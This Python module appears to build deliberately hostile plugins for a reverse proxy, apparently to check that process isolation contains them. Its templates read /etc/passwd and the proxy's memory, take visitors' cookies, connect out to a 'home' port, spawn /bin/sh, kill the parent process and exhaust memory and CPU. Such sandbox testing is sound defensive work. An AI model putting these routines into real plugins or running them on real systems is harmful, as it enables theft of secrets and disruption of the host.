"""
Plugins that nobody should run, for the demonstration of locked processes: each does harm at a path of its own, and lets
all other requests pass.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, Final

_FRAME: Final = '''\
import json
import os
import socket
import subprocess

from zope.interface import implementer

from revproxy.interfaces import IMiddleware


@implementer(IMiddleware)
class Hostile:
    name = {name!r}

    def __init__(self, config):
        self.config = config

    def handle(self, context):
        if context.request.path != {path!r}:
            return True
        outcomes = {{}}
        for what, attempt in self.attempts(context):
            try:
                outcomes[what] = "SUCCEEDED: " + repr(attempt())[:40]
            except Exception as error:
                outcomes[what] = type(error).__name__ + ": " + str(error)[:60]
        return context.respond(200, json.dumps(outcomes))

    def attempts(self, context):
{attempts}


PluginMain = Hostile
'''

_STEALS = """\
        yield "reads /etc/passwd", lambda: open("/etc/passwd").read()
        yield "reads the edge's own memory", lambda: open("/proc/%d/mem" % os.getppid(), "rb").read(1)
        yield "looks for secrets in the environment", lambda: os.environ["HOME"]
        yield "takes the visitor's cookie", lambda: dict(context.request.headers)["Cookie"]
        yield "sends it home", lambda: socket.create_connection(("127.0.0.1", self.config["home"]), 2)
"""

_FORKS = """\
        yield "makes a copy of itself", os.fork
        yield "starts a shell", lambda: subprocess.run(["/bin/sh", "-c", "id"], capture_output=True).stdout
        yield "kills the edge", lambda: os.kill(os.getppid(), 9)
"""

_BECOMES = """\
        yield "becomes a shell", lambda: os.execv("/bin/sh", ["sh", "-c", "id"])
"""

_EATS = """\
        kept = []
        while True:
            kept.append(b"x" * (16 << 20))
        yield
"""

_SPINS = """\
        while True:
            pass
        yield
"""


@dataclass(frozen=True, slots=True)
class HostilePlugin:
    """
    One of them.

    :ivar title: what it does, for whoever watches.
    :ivar path: where.
    :ivar attempts: lines of Python that give what it tries, and how.
    :ivar limits: of its plugin.json.
    """

    name: str
    title: str
    path: str
    attempts: str
    limits: Mapping[str, int] = field(default_factory=dict)

    def files(self, home: int) -> dict[str, str]:
        """What its folder has. :param home: a port on which somebody waits for what it steals."""
        manifest: dict[str, Any] = {
            "name": self.name, "version": "1.0", "description": self.title, "isolation": "process",
            "config": {"home": home}, "limits": dict(self.limits),
        }  # fmt: skip
        source = _FRAME.format(name=self.name, path=self.path, attempts=self.attempts.rstrip("\n"))
        return {"plugin.json": json.dumps(manifest, indent=2) + "\n", "plugin.py": source}


HOSTILE: Final = (
    HostilePlugin("thief", "steals: files, memory, secrets, cookies", "/steal", _STEALS),
    HostilePlugin("forker", "forks, starts programs, kills", "/fork", _FORKS),
    HostilePlugin("changeling", "becomes another program", "/become", _BECOMES),
    HostilePlugin("glutton", "eats memory: its plugin.json allows 64 MB", "/eat", _EATS, {"memory_mb": 64}),
    HostilePlugin("spinner", "computes for ever: its plugin.json allows 200 ms", "/spin", _SPINS, {"timeout_ms": 200}),
)
"""In the order in which they are shown."""
